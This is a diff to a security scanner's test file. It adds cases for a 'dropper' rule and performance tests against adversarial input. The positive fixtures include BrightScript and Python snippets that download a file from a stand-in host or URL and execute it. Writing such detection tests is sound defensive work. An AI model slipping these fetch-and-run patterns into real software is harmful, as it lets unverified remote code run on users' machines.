@@ -1207,3 +1207,37 @@ describe('Command strings concatenated around a constant host', () => {
     expect(performance.now() - start).toBeLessThan(1000);
   });
 });
+
+describeRuleCases('dropper (downloaded file run as code)', [
+  {
+    id: 'SG-DROPPER-024',
+    file: 'assets/autorun.brs',
+    positive:
+      'Sub Sync()\n    xfer = CreateObject("roUrlTransfer")\n    xfer.SetUrl("http://cdn.example.org/plugins/latest.brs")\n    code = xfer.GetToFile("SD:/plugin.brs")\n    if code = 200 then Run("SD:/plugin.brs")\nEnd Sub\n',
+    // Media saved to the card and shown, never run.
+    negative:
+      'Sub Sync()\n    dl = CreateObject("roUrlTransfer")\n    dl.SetUrl(f.url)\n    if dl.GetToFile(path + ".part") = 200 then MoveFile(path + ".part", path)\n    Run("SD:/local_plugin.brs")\nEnd Sub\n',
+  },
+  {
+    id: 'SG-DROPPER-024',
+    file: 'scripts/update.py',
+    positive:
+      'import runpy, urllib.request\ndest = "/tmp/hook.py"\nurllib.request.urlretrieve(URL, dest)\nrunpy.run_path(dest)\n',
+    negative:
+      'import runpy, urllib.request\nurllib.request.urlretrieve(URL, "/tmp/menu.json")\nrunpy.run_path("tools/local.py")\n',
+  },
+]);
+
+describe('adversarial downloaded-file runs', () => {
+  const MiB = 1024 * 1024;
+  const cases: [string, string][] = [
+    ['GetToFile calls', 'GetToFile('.repeat(MiB / 10)],
+    ['GetToFile args', 'x.GetToFile(' + 'a,'.repeat(MiB / 2)],
+    ['Run calls', 'x.GetToFile("a")\n' + 'Run(ReadAsciiFile( '.repeat(MiB / 19)],
+  ];
+  it.each(cases)('should scan 1 MiB of %s in under 200 ms', (_name, text) => {
+    const start = performance.now();
+    findingsOf(text, 'assets/autorun.brs');
+    expect(performance.now() - start).toBeLessThan(200);
+  });
+});
